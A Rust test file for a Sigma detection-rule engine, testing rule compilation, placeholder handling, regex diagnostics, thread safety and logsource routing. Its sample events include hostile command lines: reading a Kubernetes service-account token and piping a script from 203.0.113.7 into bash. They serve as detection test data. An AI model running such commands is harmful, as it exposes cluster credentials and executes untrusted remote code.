//! The compiled engine over the real corpus, and the facade's contracts.

use crate::shared_dir;
use adsigma::{Engine, RulePack, UnresolvedPlaceholders};

/// Values for the placeholders of rules-placeholder/ (SigmaHQ's names).
fn test_placeholders(builder: adsigma::EngineBuilder, pack: &RulePack) -> adsigma::EngineBuilder {
    let mut names = std::collections::BTreeSet::new();
    for d in pack.documents() {
        if let adsigma::Document::Rule(r) = &d.document {
            for i in &r.detection.identifiers {
                let maps: Vec<&adsigma::syntax::FieldMap> = match &i.body {
                    adsigma::syntax::IdentifierBody::Map(m) => vec![m],
                    adsigma::syntax::IdentifierBody::List(l) => l
                        .iter()
                        .filter_map(|e| match e {
                            adsigma::syntax::ListElement::Map(m) => Some(m),
                            _ => None,
                        })
                        .collect(),
                };
                for m in maps {
                    for item in &m.items {
                        for v in &item.values {
                            if let adsigma::syntax::value::ValueKind::String(s) = &v.kind {
                                for p in &s.pieces {
                                    if let adsigma::syntax::value::Piece::Placeholder(n) = p {
                                        names.insert(n.clone());
                                    }
                                }
                            }
                        }
                    }
                }
            }
        }
    }
    names.into_iter().fold(builder, |b, n| {
        let v = format!("test-{n}");
        b.placeholder(&n, [v])
    })
}

#[test]
fn every_corpus_rule_that_must_compile_does() {
    let Some(shared) = shared_dir() else { return };
    let base = shared.join("corpus/sigma");
    for dir in ["rules", "rules-compliance", "deprecated"] {
        let pack = RulePack::load(base.join(dir)).unwrap();
        let engine = test_placeholders(Engine::builder(), &pack)
            .skip_invalid_rules(dir == "deprecated")
            .build(&pack)
            .unwrap_or_else(|e| panic!("{dir}: {e}"));
        let rules = pack
            .documents()
            .iter()
            .filter(|d| matches!(d.document, adsigma::Document::Rule(_)))
            .count();
        assert_eq!(engine.len(), rules, "{dir}: every loaded rule compiles");
        // deprecated/: only the v1 aggregation of generic_brute_force.yml does not load.
        let allowed = if dir == "deprecated" { 2 } else { 0 };
        assert_eq!(
            engine.warnings().len(),
            allowed,
            "{dir}: {:?}",
            engine.warnings()
        );
    }
    // rules-placeholder/: compiles given a placeholder map; without one, each rule with an
    // unresolved placeholder is an error, or skipped with a warning under the skip policy.
    let pack = RulePack::load(base.join("rules-placeholder")).unwrap();
    let engine = test_placeholders(Engine::builder(), &pack)
        .build(&pack)
        .unwrap();
    assert_eq!(engine.len(), 23);
    assert!(Engine::new(&pack).is_err());
    let skipped = Engine::builder()
        .unresolved_placeholders(UnresolvedPlaceholders::SkipRule)
        .build(&pack)
        .unwrap();
    assert!(skipped.len() < 23);
    assert_eq!(skipped.len() + skipped.warnings().len(), 23);
    assert!(
        skipped
            .warnings()
            .iter()
            .all(|w| w.code.name == "unresolved_placeholder")
    );
}

#[test]
fn regexes_with_look_around_or_back_references_fail_naming_rule_value_and_why() {
    for (re, why) in [
        ("(?=foo)bar", "look-around"),
        ("(?<!x)y", "look-around"),
        (r"(a)\1", "back-references"),
    ] {
        let text = format!(
            "title: Bad regex\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {{product: linux}}\ndetection:\n  sel:\n    CommandLine|re: '{re}'\n  condition: sel\n"
        );
        let pack = RulePack::from_yaml_str(&text);
        assert!(!pack.has_errors());
        let err = Engine::new(&pack).unwrap_err();
        let adsigma::Error::Rules { diagnostics } = err else {
            panic!("not a rules error")
        };
        let d = &diagnostics[0];
        assert_eq!(d.code.name, "invalid_regex");
        assert_eq!(
            d.rule_id.as_deref(),
            Some("11111111-2222-4333-8444-555555555555")
        );
        assert!(d.message.contains(re), "{}", d.message);
        assert!(d.message.contains(why), "{}", d.message);
        assert_eq!((d.span().start.line, d.span().start.column), (6, 21));
    }
}

#[test]
fn auto_traits() {
    fn assert_all<T: Send + Sync + std::panic::UnwindSafe + std::panic::RefUnwindSafe>() {}
    fn assert_send_sync<T: Send + Sync + 'static>() {}
    assert_all::<Engine>();
    assert_all::<adsigma::Match>();
    assert_all::<adsigma::Scratch>();
    assert_send_sync::<adsigma::Error>();
}

#[test]
fn engine_is_shared_by_threads_with_the_same_results() {
    let pack =
        RulePack::load(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")).unwrap();
    let engine = Engine::new(&pack).unwrap();
    let event = serde_json::json!({
        "Image": "/bin/cat",
        "CommandLine": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "ParentImage": "/bin/sh"
    });
    let here = engine.evaluate(&event);
    assert_eq!(here.len(), 1);
    let handles: Vec<_> = (0..4)
        .map(|_| {
            let (e, ev) = (engine.clone(), event.clone());
            std::thread::spawn(move || e.evaluate(&ev))
        })
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap(), here);
    }
    let m = &here[0];
    assert_eq!(m.rule_id(), Some("4f0d6a7e-2b5c-4f7a-9a61-3c2e8d1b7f40"));
    assert_eq!(m.level(), Some(adsigma::Level::Medium));
    assert_eq!(m.identifiers(), ["token_read", "readers"]);
    assert!(m.response()[0].starts_with("Identify the pod"));
    assert!(m.tags().contains(&"attack.t1528".to_owned()));
    let fields: Vec<_> = m
        .matched()
        .iter()
        .map(|f| (f.field.as_deref(), f.value.as_str()))
        .collect();
    assert!(fields.contains(&(Some("Image"), "/bin/cat")), "{fields:?}");
}

#[test]
fn routed_evaluation_equals_unrouted_filtered_by_logsource() {
    let Some(shared) = shared_dir() else { return };
    let pack = RulePack::load(shared.join("corpus/sigma/rules")).unwrap();
    // Unrouted means unrouted: no pipeline recognises the events either.
    let engine = Engine::builder()
        .default_pipelines(false)
        .build(&pack)
        .unwrap();
    let mut events = sample_events(&shared);
    // The conformance cases' events too: many shapes, many fields.
    for case in crate::conformance::load_cases() {
        events.extend(case.events.into_iter().map(|(e, _)| e));
    }
    events.push(serde_json::json!({"Image": "/usr/bin/curl", "CommandLine": "curl -s http://203.0.113.7/x.sh | bash", "ParentImage": "/bin/sh", "User": "root"}));
    events.push(serde_json::json!({"Image": "/usr/bin/base64", "CommandLine": "base64 -d /tmp/payload", "ParentImage": "/bin/bash"}));
    assert!(events.len() > 1000, "{} events", events.len());
    let logsources = [
        "product=kubernetes,service=audit",
        "product=linux,category=process_creation",
        "product=linux",
        "product=windows,category=process_creation",
        "category=process_creation",
    ];
    let mut scratch = adsigma::Scratch::new();
    let (mut routed, mut all) = (Vec::new(), Vec::new());
    let mut compared = 0;
    for ls in logsources {
        let ls = adsigma::LogSource::parse(ls).unwrap();
        for e in &events {
            routed.clear();
            all.clear();
            engine.evaluate_into(e, Some(&ls), &mut scratch, &mut routed);
            engine.evaluate_into(e, None, &mut scratch, &mut all);
            all.retain(|&r| {
                adsigma::engine::fits(&engine.rule(r as usize).unwrap().logsource, &ls)
            });
            assert_eq!(routed, all, "{ls} on {e}");
            compared += routed.len();
        }
    }
    assert!(compared > 0, "some routed matches were compared");
}

#[test]
fn details_after_a_routed_evaluation_with_the_same_scratch() {
    let pack = RulePack::from_yaml_str(
        "title: a\nlogsource: {product: linux}\ndetection:\n  sel: {CommandLine|contains: [x, y]}\n  condition: sel\n---\ntitle: b\nlogsource: {product: windows}\ndetection:\n  sel: {Image|endswith: '.exe'}\n  filter: {CommandLine|contains: x}\n  condition: sel and not filter\n",
    );
    let engine = Engine::new(&pack).unwrap();
    let event = serde_json::json!({"CommandLine": "x y x", "Image": "a.exe"});
    let ls = adsigma::LogSource::parse("product=linux").unwrap();
    let mut scratch = adsigma::Scratch::new();
    let mut hits = Vec::new();
    engine.evaluate_into(&event, Some(&ls), &mut scratch, &mut hits);
    assert_eq!(hits, [0]);
    let m = engine.details(0, &event, &mut scratch);
    assert_eq!(m.identifiers(), ["sel"]);
    assert_eq!(
        m.matched().len(),
        1,
        "one entry per field and value: {:?}",
        m.matched()
    );
    assert_eq!(engine.evaluate_for(&event, &ls).len(), 1);
}

/// An event a logsource-only pipeline recognises (Kubernetes audit) is evaluated against
/// the rules that fit the logsource it gives, and only those: the same answer through
/// `evaluate`, `evaluate_into` and `evaluate_for`, from the first event on and from the
/// program kept for the recogniser afterwards.
#[test]
fn recognised_events_meet_only_the_rules_of_their_logsource() {
    let pack = RulePack::from_yaml_str(
        "title: k8s\nlogsource: {product: kubernetes, service: audit}\ndetection:\n  sel: {verb: create}\n  condition: sel\n\
         ---\ntitle: windows\nlogsource: {product: windows}\ndetection:\n  sel: {Image|endswith: '.exe'}\n  condition: not sel\n\
         ---\ntitle: any\nlogsource: {category: application}\ndetection:\n  sel: {objectRef.resource: pods}\n  condition: sel\n",
    );
    let engine = Engine::new(&pack).unwrap();
    let event = serde_json::json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "a1", "verb": "create",
        "objectRef": {"resource": "pods"}
    });
    let ls = engine.recognize(&event).expect("recognised").clone();
    assert_eq!(ls.product.as_deref(), Some("kubernetes"));
    let mut scratch = adsigma::Scratch::new();
    for _ in 0..2 {
        let titles: Vec<String> = engine
            .evaluate(&event)
            .iter()
            .map(|m| m.title().to_owned())
            .collect();
        assert_eq!(titles, ["k8s", "any"]);
        let mut hits = Vec::new();
        engine.evaluate_into(&event, None, &mut scratch, &mut hits);
        assert_eq!(hits, [0, 2]);
        assert_eq!(engine.evaluate_for(&event, &ls).len(), 2);
    }
    // Unrecognised, the same event meets every rule: the windows rule's `not sel` holds.
    let plain = serde_json::json!({"verb": "create", "objectRef": {"resource": "pods"}});
    assert_eq!(engine.evaluate(&plain).len(), 3);
}

/// Built on two threads (lanes compiled alongside the engine's program), the engine is the
/// one built on one: the same warnings, and the same matches on every shipped sample event,
/// also when a rule a lane would take fails to compile in the engine's program.
#[test]
fn an_engine_built_on_two_threads_is_the_one_built_on_one() {
    let Some(shared) = shared_dir() else { return };
    let mut pack = RulePack::load(shared.join("corpus/sigma/rules/linux")).unwrap();
    // Fits the Tetragon and Falco lanes, and cannot compile: an unresolved placeholder.
    pack.add_text(
        "broken.yml",
        "title: broken\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image|expand: '%nowhere%'}\n  condition: sel\n".to_owned(),
    );
    let build = |threads: usize| {
        Engine::builder()
            .unresolved_placeholders(UnresolvedPlaceholders::SkipRule)
            .threads(threads)
            .build(&pack)
            .unwrap()
    };
    let (one, two) = (build(1), build(2));
    assert_eq!(one.len(), two.len());
    let texts =
        |e: &Engine| -> Vec<String> { e.warnings().iter().map(|d| d.to_string()).collect() };
    assert_eq!(texts(&one), texts(&two));
    assert!(
        texts(&one).iter().any(|w| w.contains("nowhere")),
        "the broken rule is reported: {:?}",
        texts(&one)
    );
    let events = sample_events(&shared);
    for e in &events {
        assert_eq!(one.evaluate(e), two.evaluate(e), "{e}");
    }
    assert!(events.len() > 20, "{} events", events.len());
}

/// The shipped sample events of `../shared/events` (Kubernetes audit, Falco, Docker,
/// Tetragon): a file is one JSON document or JSON Lines.
fn sample_events(shared: &std::path::Path) -> Vec<serde_json::Value> {
    let mut events = Vec::new();
    for dir in [
        "events/k8s-audit",
        "events/falco",
        "events/docker",
        "events/tetragon",
    ] {
        for f in crate::yaml_or_json_files(&shared.join(dir)) {
            let text = std::fs::read_to_string(&f).unwrap();
            match serde_json::from_str::<serde_json::Value>(&text) {
                Ok(v) => events.push(v),
                Err(_) => events.extend(text.lines().filter_map(|l| serde_json::from_str(l).ok())),
            }
        }
    }
    events
}
